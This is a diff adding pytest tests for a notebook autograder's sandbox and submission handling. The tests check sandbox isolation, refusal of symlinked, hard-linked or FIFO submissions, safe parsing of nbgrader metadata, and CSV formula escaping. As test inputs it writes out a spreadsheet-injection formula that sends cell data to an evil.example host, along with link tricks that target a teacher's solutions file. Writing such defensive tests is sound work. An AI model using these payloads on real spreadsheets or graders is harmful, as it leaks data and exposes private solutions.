@@ -1,0 +1,236 @@
+"""The grader outside the kernel, without running a notebook: the sandbox starts from a clone
+anywhere (under /tmp, with a space in its path), its refusals say which step failed, messages
+over the cap never reach the grader's memory, submissions are opened only when they are one
+regular file in their student's folder, nbgrader metadata of any type is read safely, CSV cells
+cannot become formulas, and a failed run leaves no grades.csv behind."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+from pathlib import Path
+
+import pytest
+
+from helpers import homework, sandbox as sb, submissions
+from helpers.submissions import Refused, csv_cell, nbgrader_meta, read_submission, student_folders
+
+REPO = Path(__file__).resolve().parents[1]
+
+
+@pytest.fixture
+def clone_under_tmp():
+    """A copy of helpers/ in a folder under /tmp whose name has a space, as a throwaway checkout."""
+    top = Path(tempfile.mkdtemp(prefix="a clone ", dir="/tmp"))
+    shutil.copytree(REPO / "helpers", top / "helpers", ignore=shutil.ignore_patterns("__pycache__"))
+    yield top
+    shutil.rmtree(top, ignore_errors=True)
+
+
+@pytest.mark.slow
+def test_the_sandbox_works_from_a_clone_under_tmp(clone_under_tmp, sandbox):
+    """The grader imports helpers from the clone (python -c puts its folder first), while this
+    venv's editable install points at another checkout: the kernel must import the clone's helpers,
+    see it read-only, and a write to the clone's folder must not reach the host."""
+    top = clone_under_tmp
+    inside = textwrap.dedent(f"""
+        import helpers
+        print("helpers from", helpers.__file__)
+        try:
+            open({str(top / "pwned.txt")!r}, "w").write("x")
+            print("write landed inside the sandbox only")
+        except OSError as e:
+            print("write failed:", e)
+        try:
+            open({str(top / "helpers" / "pwned.txt")!r}, "w").write("x")
+        except OSError as e:
+            print("helpers read-only:", e.strerror)
+    """)
+    grader = textwrap.dedent(f"""
+        import subprocess, sys, shutil
+        from helpers.sandbox import Limits, _bwrap, check_sandbox, ipc_folder, kernel_env, sandbox_argv
+        print("check:", check_sandbox())
+        private, ipc = ipc_folder()
+        argv = sandbox_argv(ipc, Limits(), _bwrap())
+        env = kernel_env(Limits(), "", "")
+        argv += [a for k in ("PYTHONPATH", "PATH") for a in ("--setenv", k, env[k])]
+        r = subprocess.run([*argv, sys.executable, "-c", {inside!r}], capture_output=True, text=True)
+        shutil.rmtree(private)
+        print(r.stdout, r.stderr)
+    """)
+    res = subprocess.run([sys.executable, "-c", grader], cwd=top, capture_output=True, text=True, timeout=120,
+                         env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"})
+    assert res.returncode == 0, res.stderr
+    assert "check: None" in res.stdout, res.stdout
+    assert f"helpers from {top / 'helpers' / '__init__.py'}" in res.stdout, res.stdout
+    assert "helpers read-only: Read-only file system" in res.stdout, res.stdout
+    assert not (top / "pwned.txt").exists() and not (top / "helpers" / "pwned.txt").exists()
+
+
+def test_refusal_says_when_bwrap_cannot_make_namespaces(tmp_path, monkeypatch):
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    monkeypatch.setenv(sb.BWRAP_ENV, str(fake))
+    why = sb.check_sandbox()
+    assert why.startswith(f"{fake} could not start a sandbox: bwrap: setting up uid map: Permission denied")
+    assert "User namespaces may be disabled" in why and "import helpers" not in why
+
+
+@pytest.mark.slow
+def test_refusal_says_when_the_kernel_cannot_import_helpers(tmp_path, monkeypatch, sandbox):
+    monkeypatch.setattr(sb, "REPO_ROOT", tmp_path)  # nothing to import there, and nothing bound
+    why = sb.check_sandbox()
+    assert why.startswith(f"the sandbox starts, but the kernel inside cannot import helpers from {tmp_path}")
+    assert "ModuleNotFoundError: No module named 'helpers'" in why and "namespaces" not in why
+
+
+def test_the_grader_refuses_messages_over_the_cap(tmp_path):
+    """The clients of the grader's kernel manager drop a message part over message_bytes at the
+    socket (the connection closes) and take a small one."""
+    import zmq
+
+    km = sb.kernel_manager([], tmp_path, message_bytes=1 << 20)
+    client = km.client()
+    assert client.context.getsockopt(zmq.MAXMSGSIZE) == 1 << 20
+    addr = f"ipc://{tmp_path}/pub"
+
+    async def main() -> list:
+        pub = zmq.Context.instance().socket(zmq.PUB)
+        pub.bind(addr)
+        sub = client.context.socket(zmq.SUB)  # as jupyter_client makes its channels' sockets
+        sub.setsockopt(zmq.SUBSCRIBE, b"")
+        sub.connect(addr)
+
+        async def receive(size: int) -> int | None:
+            for _ in range(30):  # PUB drops messages until the SUB has joined
+                pub.send(b"x" * size)
+                try:
+                    return len(await asyncio.wait_for(sub.recv(), 0.1))
+                except asyncio.TimeoutError:
+                    pass
+            return None
+
+        try:
+            return [await receive(size) for size in (10, 10, 4 << 20)]
+        finally:
+            sub.close(0)
+            pub.close(0)
+
+    got = []
+    runner = threading.Thread(target=lambda: got.extend(asyncio.run(main())))  # its own event loop
+    runner.start()
+    runner.join()
+    client.context.term()
+    assert got == [10, 10, None], got  # the big one never arrives
+
+
+# ---------------------------------------------------------------- opening a submission
+NAME = "00_tiny.ipynb"
+
+
+def _folder(tmp_path: Path, name: str = "alice") -> Path:
+    (tmp_path / "subs" / name).mkdir(parents=True)
+    return tmp_path / "subs" / name
+
+
+def test_a_regular_file_is_read(tmp_path):
+    f = _folder(tmp_path)
+    (f / NAME).write_text("{}")
+    assert read_submission(f, NAME) == b"{}"
+    with pytest.raises(FileNotFoundError):
+        read_submission(f, "01_other.ipynb")
+
+
+@pytest.mark.parametrize("kind, reason", [
+    ("symlink", "submission is a symbolic link: it is not followed"),
+    ("dangling", "submission is a symbolic link: it is not followed"),
+    ("hardlink", "submission is a hard link (2 names for one file): hand in a copy"),
+    ("fifo", "submission is a FIFO: it is not followed"),
+    ("folder", "submission is a folder: it is not followed"),
+])
+def test_links_fifos_and_folders_are_refused_unopened(tmp_path, kind, reason):
+    f = _folder(tmp_path)
+    secret = tmp_path / "teacher.ipynb"
+    secret.write_text("{ solutions }")
+    make = {"symlink": lambda p: p.symlink_to(secret), "dangling": lambda p: p.symlink_to(tmp_path / "gone"),
+            "hardlink": lambda p: p.hardlink_to(secret), "fifo": os.mkfifo, "folder": os.mkdir}
+    make[kind](f / NAME)
+    with pytest.raises(Refused) as e:  # a FIFO opened for reading would block: it is never opened
+        read_submission(f, NAME)
+    assert str(e.value) == reason
+
+
+def test_a_linked_or_badly_named_student_folder_is_refused(tmp_path):
+    alice = _folder(tmp_path)
+    (alice / NAME).write_text("{}")
+    (tmp_path / "subs" / "mallory").symlink_to(alice)
+    with pytest.raises(Refused, match="the student folder is a symbolic link"):
+        read_submission(tmp_path / "subs" / "mallory", NAME)
+    bad = Path(os.fsdecode(os.fsencode(tmp_path / "subs") + b"/x\xff"))
+    bad.mkdir()
+    with pytest.raises(Refused, match="not valid UTF-8"):
+        read_submission(bad, NAME)
+    assert [s for s, _ in student_folders(tmp_path / "subs")] == ["alice", "mallory", "x\\xff"]
+
+
+def test_an_oversized_submission_is_refused(tmp_path, monkeypatch):
+    f = _folder(tmp_path)
+    (f / NAME).write_bytes(b" " * 101)
+    monkeypatch.setattr(submissions, "MAX_SUBMISSION_BYTES", 100)
+    with pytest.raises(Refused, match="101 bytes, over the limit of 100"):
+        read_submission(f, NAME)
+
+
+# ---------------------------------------------------------------- metadata and the CSV
+@pytest.mark.parametrize("meta, want", [
+    ({"nbgrader": "x"}, {}),
+    ({"nbgrader": None}, {}),
+    ({"nbgrader": [1]}, {}),
+    ("not a dict", {}),
+    ({"nbgrader": {"grade": True, "grade_id": ["a", "b"], "points": "many"}}, {"grade": True, "points": 0.0}),
+    ({"nbgrader": {"grade": "yes", "solution": 1, "grade_id": "ex1", "points": 2}},
+     {"grade": False, "solution": False, "grade_id": "ex1", "points": 2.0}),
+    ({"nbgrader": {"points": float("nan"), "grade_id": {"x": 1}}}, {"points": 0.0}),
+])
+def test_nbgrader_metadata_of_any_type_is_read_safely(meta, want):
+    assert nbgrader_meta({"cell_type": "code", "metadata": meta, "source": ""}) == want
+
+
+def test_every_reader_of_nbgrader_metadata_uses_the_one_function():
+    """The grader and the notebook check interpret nbgrader metadata through nbgrader_meta only
+    (prepare copies the teacher's own metadata whole; the book reads the series' own notebooks,
+    never a submission)."""
+    users = [p.name for p in [*REPO.glob("helpers/*.py"), REPO / "conftest.py"]
+             for text in [p.read_text().replace('raw = meta.get("nbgrader")', "")]
+             if '.get("nbgrader"' in text]
+    assert users == [], users
+
+
+@pytest.mark.parametrize("text, want", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click here")', '\'=HYPERLINK("http://evil.example/?"&A1,"click here")'),
+    ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("AssertionError: = 2", "AssertionError: = 2"), ("", ""),
+])
+def test_csv_cells_never_start_a_formula(text, want):
+    assert csv_cell(text) == want
+
+
+def test_a_failed_run_leaves_no_stale_grades_csv(tmp_path, monkeypatch):
+    (tmp_path / "subs" / "alice").mkdir(parents=True)
+    out = tmp_path / "grades.csv"
+    out.write_text("student,notebook,exercise,points,max_points,reason\nalice,00,ex1,1,1,\n")
+
+    def broken(*a, **k):
+        raise RuntimeError("nbgrader broke")
+
+    monkeypatch.setattr(homework, "make_student", broken)
+    with pytest.raises(RuntimeError, match="nbgrader broke"):
+        homework.autograde(tmp_path / "subs", out, build=tmp_path / "build", unsafe=True)
+    assert not out.exists(), "the previous run's grades.csv is still there, looking current"
